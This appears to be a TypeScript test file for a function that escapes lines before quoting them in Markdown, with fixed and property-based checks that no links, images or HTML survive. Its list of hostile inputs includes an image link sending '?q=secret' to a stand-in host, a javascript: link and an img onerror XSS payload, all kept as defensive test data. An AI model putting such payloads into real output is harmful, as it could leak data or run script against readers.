import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { marked, type Token } from 'marked';
import { asLiteral, quoteAsMarkdown } from './quote-as-markdown.ts';

/** All tokens of the Markdown, those within others too. */
function tokensOf(markdown: string): Token[] {
  const tokens: Token[] = [];
  marked.walkTokens(marked.lexer(markdown, { gfm: true }), token => {
    tokens.push(token);
  });
  return tokens;
}

const typesOf = (markdown: string) => new Set(tokensOf(markdown).map(({ type }) => type));
const harmless = new Set(['paragraph', 'text', 'escape', 'codespan', 'blockquote', 'br', 'space']);

const hostile = [
  '![logo](https://evil.example/?q=secret)',
  '[click](javascript:alert(1)) and [here][1]',
  '<img src=x onerror=alert(1)> <https://evil.example> </p>',
  'See https://evil.example/a?b=1 or www.evil.example, mail a.b@evil.example.',
  '# no heading',
  '- no item',
  '1. no item',
  '| a | b |',
  '--- and ***bold*** __it__ ~~gone~~ `code` $x$',
  '&lt;b&gt; &#60;',
  '`https://a.example` and ``',
  '![a](http://x.example/`b)',
  '> no quote in a quote',
];

for (const line of hostile)
  test(`nothing but text comes out of ${line}`, () => {
    const types = typesOf(`> ${asLiteral(line)} [1]`);
    assert.deepEqual(
      [...types].filter(type => !harmless.has(type)),
      [],
    );
  });

test('plain text, names with underscores and numbers stay as they are', () => {
  for (const line of ['It is 5 °C & wet!', 'set MAX_TEXT_BYTES now', 'In 1874 (see p. 3).', 'x = y + z'])
    assert.equal(asLiteral(line), line);
});

test('lines of a quote are lines of one block quote', () => {
  assert.equal(quoteAsMarkdown(['Name | Born', 'Ada | 1815']), 'Name \\| Born\\\n> Ada \\| 1815');
  const types = [...typesOf(`> ${quoteAsMarkdown(['- a', '1. b', 'c'])}`)];
  assert.ok(types.includes('br'));
  assert.ok(!types.includes('list'), types.join());
});

test('whatever the line, no image, link, markup or HTML comes out of it', () => {
  const piece = fc.constantFrom(
    '![',
    '](',
    '[',
    ']',
    '<',
    '>',
    '`',
    '``',
    'http://a.b',
    'www.a.b',
    'a@b.c',
    '\\',
    '&amp;',
    ' ',
    '*',
    '_',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 12 }), pieces => {
      const line = pieces.join('').replace(/\s+/g, ' ').trim();
      const types = typesOf(`> ${asLiteral(line)} [1]`);
      for (const type of types) assert.ok(harmless.has(type), `${type} in ${line}`);
    }),
    { numRuns: 500 },
  );
});
